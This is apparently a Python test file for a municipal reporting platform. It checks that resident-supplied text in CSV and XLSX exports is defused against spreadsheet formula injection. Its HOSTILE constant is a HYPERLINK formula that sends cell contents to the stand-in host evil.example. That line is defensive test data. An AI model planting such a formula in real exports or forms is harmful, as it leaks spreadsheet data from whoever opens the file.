"""Exports cannot carry live formulas: a resident's title `=HYPERLINK(…)` comes out of every CSV and XLSX download
as text; the one helper (`chengzhi.security.cells.safe_cell`) is used by the one export module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from chengzhi.opendata.datastore import csv_chunks
from chengzhi.opendata.models import Resource
from chengzhi.security.cells import safe_cell
from chengzhi.warning.files import write_tables
from chengzhi.warning.hot import Issue, Message

from .factories import City
from .test_api_errors import SUBMIT, created_number, token_headers, valid_submission
from .test_metrics import SPAN

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_safe_cell_neutralises_formula_starts_only() -> None:
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    for value in ("路灯不亮", "a=b", 12, -3.5, None, ""):
        assert safe_cell(value) == value


def test_dashboard_downloads_neutralise_formulas(client: TestClient, city: City) -> None:
    resident = token_headers(client, "resident")
    created_number(client.post(SUBMIT, json=valid_submission(title=HOSTILE), headers=resident))
    leader = token_headers(client, "leader")
    params = {**SPAN, "measure": "received"}
    got = client.get("/api/v1/metrics/requests", params={**params, "format": "csv"}, headers=leader)
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    titles = [r[1] for r in rows[1:]]
    assert titles == ["'" + HOSTILE], rows
    xlsx = client.get("/api/v1/metrics/requests", params={**params, "format": "xlsx"}, headers=leader)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE


def test_open_data_and_hot_issue_files_neutralise_formulas(tmp_path: Path) -> None:
    """The datastore's CSV download and the hot-issue analysis files hold residents' words too."""
    resource = Resource(fields=[{"id": "title", "type": "text"}, {"id": "n", "type": "int"}])
    body = b"".join(csv_chunks(resource, iter([(1, HOSTILE, -3), (2, "plain", 4)])))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1:] == [["1", "'" + HOSTILE, "-3"], ["2", "plain", "4"]]  # numbers stay numbers

    message = Message(id="1", title=HOSTILE, detail="", time=None, user="@someone")
    issue = Issue(members=[0], messages=[message], place_or_group="+1 road", description=HOSTILE)
    issues_path, messages_path = write_tables([issue], tmp_path)
    written = issues_path.read_text(encoding="utf-8-sig") + messages_path.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
    assert "'" + HOSTILE in cells and "'+1 road" in cells and "'@someone" in cells
    assert HOSTILE not in cells
